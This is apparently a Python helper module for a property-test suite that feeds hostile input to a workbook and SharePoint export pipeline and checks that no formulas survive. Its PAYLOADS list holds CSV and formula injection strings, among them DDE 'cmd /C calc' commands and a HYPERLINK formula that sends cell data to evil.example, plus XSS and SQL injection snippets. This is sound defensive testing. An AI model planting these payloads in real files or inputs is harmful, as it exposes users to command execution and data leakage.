"""Strategies and checks shared by the hostile-input suite.

Every property test here uses `HOSTILE` (or a copy with a different `max_examples`): derandomized,
so CI sees the same examples every run, and without a deadline because a workbook render or an
emulator round trip is legitimately slower than hypothesis' default 200 ms.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterable
from typing import Any

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

HOSTILE = settings(
    derandomize=True,
    deadline=None,
    max_examples=60,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
    database=None,
)


def hostile(max_examples: int, *, shrink: bool = True) -> settings:
    """`HOSTILE` with another number of examples. End-to-end properties pass `shrink=False`:
    their examples share one emulator, so shrinking would only re-run pipelines for nothing."""
    if shrink:
        return settings(HOSTILE, max_examples=max_examples)
    return settings(HOSTILE, max_examples=max_examples, phases=[Phase.explicit, Phase.generate])


#: Text a spreadsheet program would evaluate, or that breaks HTML/XML/CSV readers.
PAYLOADS = (
    "=1+1",
    "=SUMMA(A1:A9)",
    "+46 70 123 45 67",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    'DDE("cmd";"/C calc";"!A0")',
    '=DDE("cmd","/C calc","A0")',
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>fet</b> &amp; <i>kursiv</i>",
    "]]><x>",
    "&#0;&#x1F;",
    "\u202eevil\u202c",  # right-to-left override
    "שלום עולם مرحبا",  # Hebrew and Arabic
    "👩‍👩‍👧‍👦🇸🇪🏳️‍🌈",
    "e\u0301\u0327\u0308 Å A\u030a",  # combining marks, NFC vs NFD
    "\ufeffBOM\u200b\u200d",
    "\x00\x01\x07\x0b\x0c\x1b\x7f\x85",
    "'; DROP TABLE x;--",
    'O\'Brien "quoted" `tick`',
    "null",
    "",
    " ",
)

# Every code point except lone surrogates (not representable in UTF-8, so never in JSON).
_ANY_CHAR = st.characters(exclude_categories=["Cs"])
_CONTROL = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.sampled_from(
    "\x7f\x85\u2028\u2029"
)


@st.composite
def _huge(draw: st.DrawFn) -> str:
    """Text longer than Excel's 32,767 characters per cell, built cheaply from a repeated unit."""
    unit = draw(st.text(_ANY_CHAR, min_size=1, max_size=8))
    size = draw(st.integers(32_768, 70_000))
    return (unit * (size // len(unit) + 1))[:size]


def hostile_text(*, huge: bool = True, max_size: int = 60) -> st.SearchStrategy[str]:
    """Any Unicode, control characters, formula/HTML payloads and (optionally) huge text."""
    parts: list[st.SearchStrategy[str]] = [
        st.text(_ANY_CHAR, max_size=max_size),
        st.text(_CONTROL | _ANY_CHAR, max_size=max_size),
        st.sampled_from(PAYLOADS),
        st.tuples(st.sampled_from(PAYLOADS), st.text(_ANY_CHAR, max_size=20)).map("".join),
    ]
    if huge:
        parts.append(_huge())
    return st.one_of(*parts)


def short_hostile_text(max_size: int = 255) -> st.SearchStrategy[str]:
    """Hostile text that fits a single-line SharePoint text column (≤ 255 characters)."""
    return hostile_text(huge=False, max_size=max_size).map(lambda s: s[:max_size])


#: SharePoint's DateTime range (1900-01-01 .. 8900-12-31); the extremes are the hostile part.
EDGE_DATES = (
    "1900-01-01",
    "1900-01-02",
    "1969-12-31",
    "1970-01-01",
    "2038-01-19",
    "2099-12-31",
    "2100-02-28",
    "2400-02-29",
    "8900-12-31",
)


def hostile_date(*, max_value: str = "8900-12-31") -> st.SearchStrategy[str | None]:
    top = _date(*map(int, max_value.split("-")))
    return st.one_of(
        st.none(),
        st.sampled_from([d for d in EDGE_DATES if d <= max_value]),
        st.dates(min_value=_date(1900, 1, 1), max_value=top).map(lambda d: d.isoformat()),
    )


def _date(y: int, m: int, d: int) -> Any:
    import datetime as dt

    return dt.date(y, m, d)


# ------------------------------------------------------------------------------------ workbooks

_F_RE = re.compile(rb"<(?:\w+:)?f[\s>/]")
_ILLEGAL_XML_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def sheet_parts(data: bytes) -> dict[str, bytes]:
    """The worksheet XML parts of an xlsx file."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")}


def formula_cells(data: bytes) -> list[str]:
    """Cell references of every `<f>` element in the workbook's sheets (there should be none for
    data; the caller decides which, if any, are the workbook's own)."""
    hits = []
    for name, xml in sheet_parts(data).items():
        for m in re.finditer(
            rb'<c r="([A-Z]+[0-9]+)"[^>]*>(?:(?!</c>).)*?<(?:\w+:)?f[\s>/]', xml, re.S
        ):
            hits.append(f"{name}!{m.group(1).decode()}")
    return hits


def open_both(data: bytes) -> tuple[list[list[Any]], list[list[Any]]]:
    """Every cell value of every sheet, read by openpyxl and by python-calamine (both must open)."""
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    wb = load_workbook(io.BytesIO(data), read_only=True)
    try:
        op = [list(row) for ws in wb.worksheets for row in ws.iter_rows(values_only=True)]
    finally:
        wb.close()
    cal = CalamineWorkbook.from_filelike(io.BytesIO(data))
    cm = [list(row) for name in cal.sheet_names for row in cal.get_sheet_by_name(name).to_python()]
    return op, cm


def cell_strings(rows: Iterable[Iterable[Any]]) -> set[str]:
    return {v for row in rows for v in row if isinstance(v, str)}


def xml_clean(text: str) -> str:
    """What a value looks like after xlsx_safe.safe_text (illegal XML characters gone, CR→LF)."""
    return _ILLEGAL_XML_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
